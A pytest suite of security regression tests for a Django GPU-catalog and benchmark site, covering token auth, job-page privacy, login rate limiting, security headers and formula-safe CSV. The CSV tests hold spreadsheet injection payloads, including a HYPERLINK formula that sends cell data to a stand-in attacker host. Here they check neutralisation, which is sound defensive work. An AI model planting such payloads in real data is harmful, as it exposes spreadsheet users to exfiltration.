"""Defects found by an afternoon of hostile use, each pinned by a test that failed before its fix.

Job bodies and bearer tokens on the API, what a job page shows to whom, formula-safe CSV, the admin CSV import
(history, alias length, no per-row queries), the sliding login limiter, the budget's one name, /gpus/ filters
and pagination, security headers on middleware answers, catalog bounds, a cache race and the operators' login.
"""

from __future__ import annotations

import csv
import html
import io
import re
import uuid
from unittest import mock
from urllib.parse import parse_qs, urlparse

import pytest
from django.contrib.auth import authenticate
from django.contrib.auth.models import Permission, User
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import IntegrityError, connection, transaction
from django.test import Client, RequestFactory
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

import core.ratelimit
from core.csvsafe import restore_cell, safe_cell, write_csv
from core.models import ApiToken, CatalogChange
from hardware.catalog import COLUMNS, import_csv
from hardware.models import GPU, GPUAlias, Source
from inference.models import BenchmarkJob, BenchmarkResult, JobStatus
from models.models import LanguageModel
from planner import lookup

pytestmark = pytest.mark.django_db

MIXTRAL = "mixtral-8x7b-instruct-v0-1"
PASSWORD = "pw-for-tests-only"


@pytest.fixture
def catalog(curated_catalog):
    """The shared module catalog (tests/conftest.py): Mixtral, the curated GPUs and the shipped runs."""


@pytest.fixture(autouse=True)
def no_broker():
    # Jobs are sent on commit; these tests check what is stored and shown, not the Celery round trip.
    with mock.patch("celery.current_app.send_task") as sent:
        yield sent


def make_user(name: str, operator: bool = False, staff: bool = False) -> User:
    user = User.objects.create_user(f"{name}-{uuid.uuid4().hex[:6]}", password=PASSWORD, is_staff=staff)
    if operator:
        user.user_permissions.add(Permission.objects.get(codename="run_benchmarks"))
    return user


def bearer(user: User) -> dict[str, str]:
    return {"HTTP_AUTHORIZATION": f"Bearer {ApiToken.objects.issue(user, 'test')[1]}"}


def fresh_ip() -> str:
    """Returns an address no other test has used, so rate-limit counts never carry over."""
    n = uuid.uuid4().int
    return f"10.{n % 250}.{(n >> 8) % 250}.{(n >> 16) % 250 + 1}"


# ---------------------------------------------------------------------------------------------------------
# API: job bodies and bearer tokens


@pytest.mark.parametrize("body", ["[1, 2, 3]", '"hello"', "null", "42"])
def test_it_rejects_a_job_body_that_is_not_a_json_object(client, body, no_broker):
    operator = make_user("op", operator=True)
    r = client.post("/api/v1/benchmarks", body, content_type="application/json", **bearer(operator))
    assert r.status_code == 422, r.content
    assert isinstance(r.json()["detail"], list)
    assert not BenchmarkJob.objects.exists() and not no_broker.called


def test_it_rejects_a_job_body_with_a_field_it_does_not_know(client):
    # A misspelt field used to be dropped and the job queued with the default in its place.
    operator = make_user("op", operator=True)
    body = {"precison": "fp32", "layers": 2}
    r = client.post("/api/v1/benchmarks", body, content_type="application/json", **bearer(operator))
    assert r.status_code == 422 and "precison" in str(r.json()["detail"])
    assert not BenchmarkJob.objects.exists()


@pytest.mark.parametrize("headers", [{}, {"HTTP_AUTHORIZATION": "Bearer gft_not-a-real-token"}])
def test_a_post_without_a_valid_bearer_token_is_a_401_not_a_csrf_403(catalog, headers):
    script = Client(enforce_csrf_checks=True)  # as a real client is treated: CSRF enforced
    r = script.post("/api/v1/benchmarks", {"precision": "fp32"}, content_type="application/json", **headers)
    assert r.status_code == 401, r.content
    assert r.json()["detail"] == "Unauthorized"
    assert script.post("/api/v1/benchmarks/jobs/1/cancel", **headers).status_code == 401


def test_a_wrong_bearer_token_beside_a_session_is_still_a_401(catalog):
    browser = Client(enforce_csrf_checks=True)
    browser.force_login(make_user("op", operator=True))
    r = browser.post(
        "/api/v1/benchmarks",
        {"precision": "fp32"},
        content_type="application/json",
        HTTP_AUTHORIZATION="Bearer gft_wrong",
    )
    assert r.status_code == 401


# ---------------------------------------------------------------------------------------------------------
# Job pages and the job API: one policy


@pytest.fixture
def failed_job() -> BenchmarkJob:
    # A job that failed on a worker, with a result whose raw output carries the runner's own words.
    owner = make_user("alice-operator", operator=True)
    job = BenchmarkJob.objects.create(
        preset="tiny",
        layers=2,
        precision="fp32",
        batch=1,
        prompt_tokens=8,
        new_tokens=4,
        requested_by=owner,
        status=JobStatus.FAILED,
        worker="gpufit@private-worker-name",
        message="boom: PRIVATE-MESSAGE",
        error="Traceback (most recent call last): PRIVATE-TRACEBACK",
        target_device="cpu",
    )
    BenchmarkResult.objects.create(
        job=job,
        status="ok",
        device_name="cpu",
        precision="fp32",
        layers=2,
        total_layers=2,
        batch=1,
        prompt_tokens=8,
        new_tokens=4,
        decode_tok_s=123.456,
        estimated_decode_tok_s=100.0,
        raw={"runner": "PRIVATE-RAW-OUTPUT", "kernels": "PRIVATE-KERNELS"},
    )
    return job


PRIVATE = ["alice-operator", "private-worker-name", "PRIVATE-MESSAGE", "PRIVATE-TRACEBACK", "PRIVATE-RAW-OUTPUT"]


def _private_parts(text: str) -> list[str]:
    return [word for word in PRIVATE if word in text]


def test_a_visitor_sees_the_run_and_its_figures_but_nothing_private(client, failed_job):
    page = client.get(failed_job.get_absolute_url())
    assert page.status_code == 200
    body = page.content.decode()
    assert f"Job #{failed_job.pk}" in body and "123.456" in body  # the published figures stay public
    assert _private_parts(body) == [] and "PRIVATE-KERNELS" not in body
    fragment = client.get(reverse("inference:job_status", args=[failed_job.pk])).content.decode()
    assert "Failed" in fragment and _private_parts(fragment) == []


def test_another_operator_sees_what_a_visitor_sees(client, failed_job):
    client.force_login(make_user("bob-operator", operator=True))
    body = client.get(failed_job.get_absolute_url()).content.decode()
    assert _private_parts(body) == []


@pytest.mark.parametrize("who", ["requester", "staff"])
def test_the_private_part_is_for_the_requester_and_staff_only(client, failed_job, who):
    status_url = reverse("inference:job_status", args=[failed_job.pk])
    assert _private_parts(client.get(status_url).content.decode()) == []
    client.force_login(failed_job.requested_by if who == "requester" else make_user("editor", staff=True))
    body = client.get(failed_job.get_absolute_url()).content.decode()
    assert _private_parts(body) == PRIVATE
    fragment = client.get(status_url).content.decode()
    assert "PRIVATE-TRACEBACK" in fragment and "private-worker-name" in fragment


def test_the_job_api_applies_the_same_policy(client, failed_job):
    url = f"/api/v1/benchmarks/jobs/{failed_job.pk}"
    public = client.get(url)
    assert public.status_code == 200
    assert public.json()["status"] == "failed"
    assert public.json()["requested_by"] is None and public.json()["message"] is None
    other = client.get(url, **bearer(make_user("bob-operator", operator=True))).json()
    assert other["requested_by"] is None and other["message"] is None
    mine = client.get(url, **bearer(failed_job.requested_by)).json()
    assert mine["requested_by"] == failed_job.requested_by.username and "PRIVATE-MESSAGE" in mine["message"]
    assert client.get(url, HTTP_AUTHORIZATION="Bearer gft_wrong").status_code == 401


# ---------------------------------------------------------------------------------------------------------
# CSV: one formula-safe writer


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil.example")', '\'=HYPERLINK("http://evil.example")'),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("RTX 4090", "RTX 4090"),
        (-3.5, -3.5),  # a number stays a number, sign and all
        (-2, -2),
        (None, ""),
        (float("nan"), ""),
    ],
)
def test_it_neutralises_text_that_would_start_a_formula_and_keeps_numbers(value, written):
    assert safe_cell(value) == written
    if isinstance(written, str):
        assert restore_cell(written) == ("" if value is None or value != value else value)


def test_negative_numbers_are_written_as_numbers():
    out = io.StringIO()
    write_csv(out, ["name", "headroom_gb"], [["-x", -3.25], ["ok", 1.0]], float_format="%.4g")
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["name", "headroom_gb"], ["'-x", "-3.25"], ["ok", "1"]]


def test_the_public_recommender_csv_neutralises_a_catalog_name(client, catalog):
    # An editable catalog row whose name is a formula, large enough to hold Mixtral at Q4_K_M.
    GPU.objects.create(
        name='=HYPERLINK("http://evil.example/?"&A1)',
        slug="formula-gpu",
        vendor="other",
        segment="datacenter",
        memory_gb=192,
        memory_bandwidth_gb_s=8000,
        fp16_tensor_tflops=1000,
        street_price_usd=1,
        street_price_date="2026-01-01",
    )
    r = client.get("/recommend/", {"model": MIXTRAL, "quant": "Q4_K_M", "format": "csv"})
    table = list(csv.reader(io.StringIO(r.content.decode())))
    names = [row[0] for row in table[1:]]
    assert "'" + '=HYPERLINK("http://evil.example/?"&A1)' in names
    assert not any(cell.startswith(("=", "+", "@")) for row in table for cell in row)
    memory = table[0].index("memory_gb")
    assert all(float(row[memory]) > 0 for row in table[1:])  # numeric columns still read as numbers


def test_the_admin_export_is_formula_safe_and_imports_back_unchanged(client):
    staff = User.objects.create_superuser(f"editor-{uuid.uuid4().hex[:6]}", "e@example.com", PASSWORD)
    client.force_login(staff)
    gpu = GPU.objects.create(
        name="@cmd GPU",
        slug="cmd-gpu",
        vendor="other",
        segment="consumer",
        memory_gb=16,
        memory_bandwidth_gb_s=500,
        notes="-2+3 from a forum post",
    )
    GPUAlias.objects.create(gpu=gpu, name="=cmd alias")
    text = client.get(reverse("admin:hardware_gpu_export_csv")).content.decode()
    row = next(r for r in csv.DictReader(io.StringIO(text)) if "cmd GPU" in r["name"])
    assert (row["name"], row["notes"], row["aliases"]) == ("'@cmd GPU", "'-2+3 from a forum post", "'=cmd alias")
    assert row["memory_gb"] == "16.0"
    import_csv(text.encode(), user=staff)
    gpu.refresh_from_db()
    assert (gpu.name, gpu.notes) == ("@cmd GPU", "-2+3 from a forum post")
    assert GPU.objects.resolve("=cmd alias") == gpu


# ---------------------------------------------------------------------------------------------------------
# Admin CSV import


HEADER = ",".join(COLUMNS)


def csv_text(*rows: dict) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=COLUMNS)
    writer.writeheader()
    for row in rows:
        writer.writerow(row)
    return out.getvalue()


def gpu_row(i: int, **overrides) -> dict:
    # A made-up datacenter card: 48 GB, 864 GB/s (an L40S-like part), priced and dated.
    row = {
        "name": f"Hardening Test GPU {i:04d}",
        "vendor": "nvidia",
        "segment": "datacenter",
        "memory_gb": 48,
        "memory_bandwidth_gb_s": 864,
        "fp16_tensor_tflops": 362,
        "tdp_w": 350,
        "launch_price_usd": 7500,
        "aliases": f"HTG {i:04d}",
        "source_url": "https://example.org/gpu",
    }
    row.update(overrides)
    return row


@pytest.fixture
def staff_client(client) -> tuple[Client, User]:
    staff = User.objects.create_superuser(f"editor-{uuid.uuid4().hex[:6]}", "e@example.com", PASSWORD)
    client.force_login(staff)
    return client, staff


def upload(client, text: str):
    data = {"file": SimpleUploadedFile("gpus.csv", text.encode(), content_type="text/csv")}
    return client.post(reverse("admin:hardware_gpu_import_csv"), data)


def test_a_csv_import_records_every_row_in_the_catalog_history(staff_client):
    client, staff = staff_client
    existing = GPU.objects.create(
        name="Hardening Test GPU 0001", slug="htg-1", vendor="nvidia", segment="datacenter", memory_gb=24,
        memory_bandwidth_gb_s=300, source=Source.CURATED,
    )  # fmt: skip
    r = upload(client, csv_text(gpu_row(1), gpu_row(2)))
    assert r.status_code == 302, r.content.decode()[:2000]
    changes = CatalogChange.objects.filter(model_label="hardware.GPU", user=staff)
    update = changes.get(object_id=str(existing.pk))
    assert update.action == "update" and update.before["memory_gb"] == 24 and update.after["memory_gb"] == 48
    assert {"memory_gb", "memory_bandwidth_gb_s", "source"} <= set(update.changed_fields)
    created = GPU.objects.get(name="Hardening Test GPU 0002")
    change = changes.get(object_id=str(created.pk))
    assert change.action == "create" and change.before is None and change.after["source"] == "csv"


def test_an_alias_longer_than_its_column_is_a_row_error_and_nothing_is_imported(staff_client):
    client, _ = staff_client
    r = upload(client, csv_text(gpu_row(1), gpu_row(2, aliases="x" * 161)))
    assert r.status_code == 200
    assert "row 3 (Hardening Test GPU 0002): alias" in r.content.decode() and "161 characters" in r.content.decode()
    assert not GPU.objects.filter(name__startswith="Hardening Test GPU").exists()


def test_an_absurd_value_in_a_csv_is_a_row_error(staff_client):
    client, _ = staff_client
    r = upload(client, csv_text(gpu_row(1, memory_gb="1e308")))
    assert r.status_code == 200 and "row 2 (Hardening Test GPU 0001): memory_gb" in r.content.decode()
    r = upload(client, csv_text(gpu_row(1, tdp_w="nan")))
    assert r.status_code == 200 and "tdp_w" in r.content.decode()
    assert not GPU.objects.filter(name__startswith="Hardening Test GPU").exists()


def test_the_import_runs_the_same_queries_for_ten_rows_as_for_a_hundred(staff_client):
    _, staff = staff_client

    def queries(n: int, offset: int) -> int:
        text = csv_text(*[gpu_row(offset + i) for i in range(n)])
        with CaptureQueriesContext(connection) as ctx:
            import_csv(text.encode(), user=staff)
        return len(ctx.captured_queries)

    # New rows, then the same rows again as updates: validation and writes are bulk, not one query per row.
    assert queries(10, 0) == queries(100, 1000)
    assert queries(10, 0) == queries(100, 1000)
    assert GPU.objects.filter(name__startswith="Hardening Test GPU").count() == 110
    assert CatalogChange.objects.filter(user=staff).count() == 220


# ---------------------------------------------------------------------------------------------------------
# Login limiter


def hold_clock(monkeypatch) -> float:
    """Returns the limiter's clock, held at the start of a minute no other test has used."""
    now = (uuid.uuid4().int % 10**8) * 60.0 + 1
    monkeypatch.setattr(core.ratelimit, "_now", lambda: now)
    return now


def _login_codes(client, url: str, ip: str, times: list[float], monkeypatch) -> list[int]:
    codes = []
    for t in times:
        monkeypatch.setattr(core.ratelimit, "_now", lambda t=t: t)
        r = client.post(url, {"username": "nobody", "password": "wrong"}, REMOTE_ADDR=ip)
        codes.append(r.status_code)
    return codes


@pytest.mark.parametrize("url", ["/admin/login/", "/accounts/login/"])
def test_failed_logins_across_a_minute_boundary_are_still_limited(client, settings, monkeypatch, url):
    settings.GPUFIT_RATE_LOGIN_FAILURES = "5/60"
    boundary = (uuid.uuid4().int % 10**8) * 60.0  # the start of a minute no other test has used
    # Seven attempts in three seconds, straddling the minute: a fixed window let all seven through.
    times = [boundary + offset for offset in (-1.5, -1.2, -0.9, -0.6, -0.3, 0.5, 1.5)]
    codes = _login_codes(client, url, fresh_ip(), times, monkeypatch)
    assert codes == [200] * 5 + [429, 429]


def test_the_limit_lifts_a_period_after_the_failures(client, settings, monkeypatch):
    settings.GPUFIT_RATE_LOGIN_FAILURES = "2/60"
    start = (uuid.uuid4().int % 10**8) * 60.0 + 7
    ip = fresh_ip()
    assert _login_codes(client, "/accounts/login/", ip, [start, start + 1, start + 30], monkeypatch) == [200, 200, 429]
    monkeypatch.setattr(core.ratelimit, "_now", lambda: start + 30)
    r = client.post("/accounts/login/", {"username": "x", "password": "y"}, REMOTE_ADDR=ip)
    assert 1 <= int(r["Retry-After"]) <= 37  # until the first failure is a period old (plus one bucket)
    assert _login_codes(client, "/accounts/login/", ip, [start + 67.5], monkeypatch) == [200]


def test_failed_logins_are_counted_from_the_signal_whatever_asked(client, settings, monkeypatch):
    settings.GPUFIT_RATE_LOGIN_FAILURES = "3/60"
    hold_clock(monkeypatch)
    ip = fresh_ip()
    request = RequestFactory().post("/somewhere/", REMOTE_ADDR=ip)
    for _ in range(3):
        # Any caller of authenticate() with a request counts, not only a login page that answers 200.
        assert authenticate(request, username="nobody", password="wrong") is None
    assert client.post("/admin/login/", {"username": "a", "password": "b"}, REMOTE_ADDR=ip).status_code == 429
    assert client.post("/accounts/login/", {"username": "a", "password": "b"}, REMOTE_ADDR=ip).status_code == 429


def test_a_right_password_is_not_counted_as_a_failure(client, settings, monkeypatch):
    # A non-staff user with the right password at the admin login sees the form again (200); it is no failure.
    settings.GPUFIT_RATE_LOGIN_FAILURES = "2/60"
    hold_clock(monkeypatch)
    user, ip = make_user("plain"), fresh_ip()
    for _ in range(3):
        r = client.post("/admin/login/", {"username": user.username, "password": PASSWORD}, REMOTE_ADDR=ip)
        assert r.status_code == 200


# ---------------------------------------------------------------------------------------------------------
# The budget: one name, one rule


def test_the_recommender_page_filters_by_budget_usd_as_the_api_does(client, catalog):
    query = {"model": MIXTRAL, "quant": "Q4_K_M", "budget_usd": 2500}
    page = client.get("/recommend/", query)
    assert page.status_code == 200
    frame = page.context["ranking"].frame
    everything = client.get("/recommend/", {"model": MIXTRAL, "quant": "Q4_K_M"}).context["ranking"].frame
    assert 0 < len(frame) < len(everything)
    assert frame["price_usd"].notna().all() and (frame["price_usd"] <= 2500).all()
    api = client.get("/api/v1/recommend", {**query, "limit": 100}).json()
    assert api["count"] == len(frame)
    assert {item["slug"] for item in api["items"]} == set(frame["slug"])
    # The page's old name still works and means the same.
    old = client.get("/recommend/", {"model": MIXTRAL, "quant": "Q4_K_M", "budget": 2500}).context["ranking"].frame
    assert set(old["slug"]) == set(frame["slug"])
    assert 'name="budget_usd"' in page.content.decode()


def test_the_planner_keeps_builds_within_budget_usd(client, catalog):
    query = {"model": MIXTRAL, "quant": "Q4_K_M", "max_gpus": 2, "budget_usd": 3000}
    builds = client.get("/plan/", query).context["builds"]
    assert builds and all(b["total_price_usd"] is not None and b["total_price_usd"] <= 3000 for b in builds)


# ---------------------------------------------------------------------------------------------------------
# /gpus/: filters and pagination


def test_pagination_links_carry_only_the_filters_url_encoded(client, catalog):
    # A stray key made of markup and URL syntax, beside a real filter with more than one page of GPUs.
    r = client.get("/gpus/?x%22%26y%3D%3Cz%3E=1&vendor=nvidia")
    assert r.status_code == 200 and r.context["page"].has_next()
    href = html.unescape(re.search(r'href="([^"]*)" id="next-page"', r.content.decode()).group(1))
    assert parse_qs(urlparse(href).query, keep_blank_values=True) == {"vendor": ["nvidia"], "page": ["2"]}
    # A value with URL syntax in it comes back whole.
    r = client.get("/gpus/", {"q": "a&b=c #1"})
    assert parse_qs(r.context["filters"]) == {"q": ["a&b=c #1"]}


def test_the_vendor_and_segment_filters_take_any_case_as_the_api_does(client, catalog):
    upper = client.get("/gpus/", {"vendor": "NVIDIA", "segment": "Datacenter"})
    lower = client.get("/gpus/", {"vendor": "nvidia", "segment": "datacenter"})
    assert upper.status_code == lower.status_code == 200
    assert [g.pk for g in upper.context["page"]] == [g.pk for g in lower.context["page"]]
    assert client.get("/gpus/", {"vendor": "Nvidiaa"}).status_code == 400


def test_an_invalid_filter_shows_its_message_and_no_list(client, catalog):
    r = client.get("/gpus/", {"min_memory_gb": "lots"})
    assert r.status_code == 400
    body = r.content.decode()
    assert "Enter a number." in body and "<table" not in body and "GPUs</p>" not in body


# ---------------------------------------------------------------------------------------------------------
# Security headers on answers made by middleware

SECURITY_HEADERS = {
    "Content-Security-Policy",
    "Permissions-Policy",
    "X-Frame-Options",
    "X-Content-Type-Options",
    "Referrer-Policy",
    "Cross-Origin-Opener-Policy",
}


def test_every_answer_from_middleware_carries_the_security_headers(client, settings, monkeypatch):
    page = client.get("/healthz")
    assert SECURITY_HEADERS <= set(page.headers)
    too_large = client.post("/api/v1/benchmarks", "x" * (2 * 1024 * 1024), content_type="application/json")
    nul = client.get("/gpus/", {"q": "a\x00b"})
    settings.GPUFIT_RATE_LOGIN_FAILURES = "1/60"
    hold_clock(monkeypatch)
    ip = fresh_ip()
    client.post("/accounts/login/", {"username": "a", "password": "b"}, REMOTE_ADDR=ip)
    throttled = client.post("/accounts/login/", {"username": "a", "password": "b"}, REMOTE_ADDR=ip)
    for response, status in [(too_large, 413), (nul, 400), (throttled, 429)]:
        assert response.status_code == status
        assert SECURITY_HEADERS - set(response.headers) == set(), status


# ---------------------------------------------------------------------------------------------------------
# Catalog bounds


def _gpu(**overrides) -> GPU:
    values = {
        "name": f"Bounds GPU {uuid.uuid4().hex[:6]}",
        "slug": f"bounds-{uuid.uuid4().hex[:6]}",
        "vendor": "other",
        "segment": "consumer",
        "memory_gb": 16,
        "memory_bandwidth_gb_s": 500,
    }
    values.update(overrides)
    return GPU(**values)


ABSURD_GPU_VALUES = [
    ("memory_gb", 1e308),
    ("memory_bandwidth_gb_s", 1e12),
    ("fp16_tensor_tflops", -5.0),
    ("fp32_tflops", 0.0),
    ("int8_tops", 1e9),
    ("fp8_tflops", -1.0),
    ("tdp_w", 0.0),
    ("launch_price_usd", 1e12),
    ("street_price_usd", 1e12),
    ("cloud_price_usd_hr", 1e6),
]


@pytest.mark.parametrize(("field", "value"), ABSURD_GPU_VALUES)
def test_the_database_and_validation_refuse_absurd_gpu_values(field, value):
    gpu = _gpu(**{field: value})
    with pytest.raises(ValidationError) as refused:
        gpu.full_clean()
    assert field in refused.value.message_dict
    with pytest.raises(IntegrityError), transaction.atomic():
        gpu.save()


@pytest.mark.parametrize(
    ("field", "value"), [("total_params", 10**15), ("active_params", 0), ("layers", 0), ("context_length", 10**9)]
)
def test_the_database_and_validation_refuse_absurd_model_values(field, value):
    values = {
        "name": f"Bounds model {uuid.uuid4().hex[:6]}",
        "slug": f"bounds-model-{uuid.uuid4().hex[:6]}",
        "total_params": 7 * 10**9,
        "active_params": 7 * 10**9,
        "layers": 32,
        "hidden_size": 4096,
        "attention_heads": 32,
        "kv_heads": 8,
        "head_dim": 128,
        "vocab_size": 32000,
        "context_length": 32768,
    }
    model = LanguageModel(**{**values, field: value})
    with pytest.raises(ValidationError) as refused:
        model.full_clean()
    assert field in refused.value.message_dict
    with pytest.raises(IntegrityError), transaction.atomic():
        model.save()
    LanguageModel(**values).full_clean()  # the same row with real values is fine


def test_the_admin_shows_a_message_for_an_absurd_value(client):
    client.force_login(User.objects.create_superuser(f"ed-{uuid.uuid4().hex[:6]}", "e@example.com", PASSWORD))
    gpu = _gpu()
    gpu.save()
    url = reverse("admin:hardware_gpu_change", args=[gpu.pk])
    form = client.get(url).context["adminform"].form
    data = {k: ("" if v is None else v) for k, v in form.initial.items() if k in form.fields}
    data.update({"memory_gb": "1e308", "tdp_w": "0", "aliases-TOTAL_FORMS": 0, "aliases-INITIAL_FORMS": 0})
    r = client.post(url, data)
    assert r.status_code == 200
    assert b"Memory cannot be more than 100,000 GB." in r.content and b"Board power must be more than 0." in r.content
    gpu.refresh_from_db()
    assert gpu.memory_gb == 16


# ---------------------------------------------------------------------------------------------------------
# planner.lookup.remembered: a value built before a catalog change is never filed under the fingerprint after it


def test_a_value_built_while_the_catalog_changes_is_not_served_after_the_change():
    calls = []

    def build_during_a_change() -> str:
        calls.append("build")
        if len(calls) == 1:
            # While this (slow) build reads the old catalog, an editor adds a GPU and another request looks
            # something up: that request sees the new fingerprint first.
            _gpu().save()
            lookup.remembered("other-kind", "other-key", lambda: "other")
            return "built from the old catalog"
        return "built from the new catalog"

    assert lookup.remembered("race", "key", build_during_a_change) == "built from the old catalog"
    assert lookup.remembered("race", "key", build_during_a_change) == "built from the new catalog"
    assert lookup.remembered("race", "key", build_during_a_change) == "built from the new catalog"
    assert calls == ["build", "build"]


# ---------------------------------------------------------------------------------------------------------
# Operators' login page


def test_an_operator_logs_in_and_out_on_the_sites_own_pages(client, catalog):
    operator = make_user("op", operator=True)
    r = client.get("/benchmarks/new/")
    assert r.status_code == 302 and r["Location"] == "/accounts/login/?next=/benchmarks/new/"
    page = client.get(r["Location"])
    assert page.status_code == 200
    assert b'class="brand"' in page.content and b'name="password"' in page.content  # the site's base page
    r = client.post("/accounts/login/?next=/benchmarks/new/", {"username": operator.username, "password": PASSWORD})
    assert r.status_code == 302 and r["Location"] == "/benchmarks/new/"
    assert client.get("/benchmarks/new/").status_code == 200
    assert b'id="logout"' in client.get("/benchmarks/").content
    r = client.post("/accounts/logout/")
    assert r.status_code == 302 and client.get("/benchmarks/new/").status_code == 302
